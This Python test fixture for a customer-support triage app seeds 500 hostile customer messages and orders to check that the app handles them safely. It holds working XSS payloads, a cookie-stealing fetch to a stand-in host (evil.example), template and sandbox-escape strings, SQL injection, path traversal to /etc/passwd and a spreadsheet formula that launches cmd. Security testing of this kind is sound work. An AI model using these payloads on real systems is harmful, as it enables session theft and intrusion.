"""500 messages that try to be more than text, in every field that a customer or a shop's system fills."""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from sqlalchemy import Connection

from triage.bootstrap import WORKSPACE
from triage.jobs.figures import Figures
from triage.storage import intake
from triage.storage.database import Database, sqlite_url
from triage.storage.insights import anomaly_looks
from triage.storage.orders import put_order
from triage.storage.workspace import Workspace
from triage.testing import FixedClock
from triage.types import Arrival, Attachment, Author, InboundMessage, Order, OrderItem, Sender, ThreadMessage

MANY = 500
RUN = "window.__pwned=(window.__pwned||0)+1;alert(document.domain)"
FETCH = "fetch('http://evil.example/'+document.cookie)"
ELSEWHERE = "http://evil.example/x"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title></style></noscript></template><script>{FETCH};{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={ELSEWHERE}.js></script><script type=module>import '{ELSEWHERE}.js'</script>",
    f'"><script>{RUN}</script><x y="',
    f"'><script>{RUN}</script>",
    f"<!--><script>{RUN}</script-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"\x00<scr\x00ipt>{RUN}</script>",
    f"\ufeff<ſcript>{RUN}</ſcript>\u212a",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E \\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
)
HANDLERS = (
    f'<img src=x onerror="{RUN}">',
    f"<body onload={RUN}><input autofocus onfocus={RUN}>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' style='position:fixed;inset:0;width:100%;height:100%' x='",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    f"<select onfocus={RUN} autofocus><marquee onstart={RUN}>",
    f"<a href=# onclick={RUN} accesskey=x>where is my parcel?</a>",
    f'<form id=reply action={ELSEWHERE}><button formaction="javascript:{RUN}">approve</button></form>',
    f"<input name=token value=1><input name=attributes><img name=querySelector id=queue onerror={RUN} src=x>",
)
DRAWINGS = (
    f"<svg onload={RUN}><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s><set attributeName=onmouseover to={RUN}></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text x=20 y=20>order status</text></a></svg>',
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f'<math><mtext><mglyph><style><!--</style><img title="--><img src=x onerror={RUN}>">',
    f'<svg><style><img src="</style><img src=x onerror={RUN}>"></style></svg>',
    f"<iframe src=javascript:{RUN}></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data=data:text/html,<script>{RUN}</script>></object><embed src={ELSEWHERE}.swf>",
)
STYLES = (
    f"<style>@import '{ELSEWHERE}.css';*{{background:url({ELSEWHERE}.png)}}</style>",
    f'<div style="background:url({ELSEWHERE}.png);position:fixed;inset:0;z-index:9999">Log in again</div>',
    "<style>main{display:none}body::before{content:'Session expired'}</style>",
    f"<link rel=stylesheet href={ELSEWHERE}.css><link rel=prefetch href={ELSEWHERE}>",
    f"expression({RUN}); -moz-binding:url({ELSEWHERE}#x); behavior:url({ELSEWHERE}.htc)",
    f"<base href={ELSEWHERE}/><meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<img src={ELSEWHERE}.png><img srcset='{ELSEWHERE}.png 1x'><picture><source srcset={ELSEWHERE}.webp></picture>",
    f"<table background={ELSEWHERE}.png><td background={ELSEWHERE}.png></table>",
)
LINKS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt&colon;{RUN} java\tscript:{RUN} \x01javascript:{RUN}",
    f"[track my parcel](javascript:{RUN}) ![x]({ELSEWHERE}.png) <javascript:{RUN}>",
    f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== vbscript:msgbox(1) {ELSEWHERE}",
    f"<a href='javascript:{RUN}'>x</a><a href=//evil.example>y</a><a href={ELSEWHERE} ping={ELSEWHERE}>z</a>",
    "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} ${7*7} #{7*7} <%= 7*7 %>",
    "%(name)s %s %d {0} {name} %%(count)d 0000 &amp; &lt;b&gt; &quot;",
    "../../../../etc/passwd ..\\..\\x '; DROP TABLE messages; -- \" OR 1=1 /* =cmd|'/c calc'!A1 @SUM(1)",
)
LETTERS = (
    "\u202ereversed \u202d\u2066\u2067\u2068 order 12345\u2069 no end of it \u202b\u202a",
    "\u061c\u200f\u200eאבג123 دعم <b>غامق</b> \u202etxt.exe",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff" * 40,
    "w" * 10_000,
    "ж" * 10_000 + " " + "漢" * 5_000,
    "https://shop.example/" + "a%20" * 2_500,
    "😀" * 3_000 + "👩‍👩‍👧‍👦🏳️‍🌈🇵🇱" * 300,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞ " * 30,
    "<div>" * 2_000 + "deep" + "</div>" * 2_000,
    "<b><i><u><font size=7 color=red>" * 300 + "BIG",
    "\ud800 lone \udfff \x00 \x07 \x1b[31m \x7f \x85 \u2028 \u2029 \ufffe \U0010ffff",
    "\n" * 500 + "at the end" + "\t" * 500,
    "﷽" * 500 + " " + "𒐫" * 500,
)
FAMILIES = (*SCRIPTS, *HANDLERS, *DRAWINGS, *STYLES, *LINKS, *LETTERS)
ASKED = (
    "Where is my parcel? {0}", "{0}", "Hello,\n\n{0}\n\nI want my money back.", "> {0}\n> quoted\n\nThe lamp came broken.",
    "Gdzie jest moja paczka? {0} Dziękuję", "{0}\n-- \n{0}", "أين طلبي؟ {0}", "My order TM-10428 {0} is late, refund me",
    "Wo ist mein Paket? <{0}>", "On 3 May 2026, at 10:00, Shop <a@b.example> wrote:\n> {0}\n\nThank you!",
)  # fmt: skip
"""What a message also says, so that each goes another way through triage and drafting."""
CHANNELS = ("chat", "email", "amazon", "ebay", "sms", "whatsapp", "social", "review")


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """One of the messages. ``payload`` stands in its text, and in the other fields as far as they are long."""

    payload: str
    arrival: Arrival
    order: Order


def messages(many: int = MANY) -> Iterator[Hostile]:
    """The first ``len(FAMILIES)`` hold one payload each; the others mix them."""
    mixed = random.Random(500)
    for number in range(many):
        payload = FAMILIES[number % len(FAMILIES)]
        asked, channel = ASKED[(number // len(FAMILIES) + number) % len(ASKED)], CHANNELS[number % len(CHANNELS)]
        other = payload if number < len(FAMILIES) else mixed.choice(FAMILIES)
        yield Hostile(
            payload=payload, arrival=_arrival(number, payload, other, asked, channel), order=_order(number, other)
        )


def _arrival(number: int, payload: str, other: str, asked: str, channel: str) -> Arrival:
    text = asked.replace("{0}", payload)
    return Arrival(
        external_id=f"hostile-{number}", order_id=f"H-{number}",
        message=InboundMessage(
            text=text, subject=other[:500] if number % 3 else None, channel=channel, received_at=_when(number),
            thread=(ThreadMessage(author=Author.CUSTOMER, text=other[:2000]),) if number % 5 == 0 else (),
        ),
        sender=Sender(
            name=other[:200], handle=f"{other[:60]}{number}",
            email=f'"{other[:40]}"@x{number}.example' if number % 2 else None,
        ),
        attachments=(Attachment(name=f"{other[:150]}.svg", media_type=other[:60], content=other.encode("utf-8", "replace")),)
        if number % 4 == 0
        else (),
    )  # fmt: skip


def _when(number: int) -> datetime:
    """A few a day for six weeks, then all the others at once: something stands out."""
    return datetime.now(UTC) - (timedelta(days=number % 40 + 2) if number < 160 else timedelta(hours=1))


def _order(number: int, payload: str) -> Order:
    short = payload[:120]
    return Order(
        id=f"H-{number}", status=short, carrier=short, tracking_number=short, tracking_url=f"javascript:{RUN}",
        items=(OrderItem(title=payload[:400], sku=short, supplier=short, price="1.00"),), total="1.00", currency="EUR",
        placed_at=datetime.now(UTC) - timedelta(days=9), promised_by=datetime.now(UTC) - timedelta(days=2),
    )  # fmt: skip


def look_for_anomalies(data: Path) -> None:
    """As the server does once an hour, but now."""
    database = Database(sqlite_url(data / "triage.db"))
    later = datetime.now(UTC) + timedelta(minutes=61)
    try:
        figures = Figures(database, FixedClock(later))
        while figures.round(later):
            pass
        anomaly_looks.look(database, WORKSPACE, now=later + timedelta(minutes=61))
    finally:
        database.close()


def insert(data: Path, many: int = MANY) -> list[tuple[Hostile, str]]:
    """Keeps them in the database of a server that is not running; each with its conversation."""
    now = datetime.now(UTC)
    found = list(messages(many))

    def work(connection: Connection) -> list[tuple[Hostile, str]]:
        workspace = Workspace(connection, WORKSPACE)
        kept = []
        for one in found:
            put_order(workspace, one.order, now=now)
            kept.append((one, intake.keep(workspace, one.arrival, now=now).conversation_id))
        return kept

    database = Database(sqlite_url(data / "triage.db"))
    try:
        return database.write(work)
    finally:
        database.close()
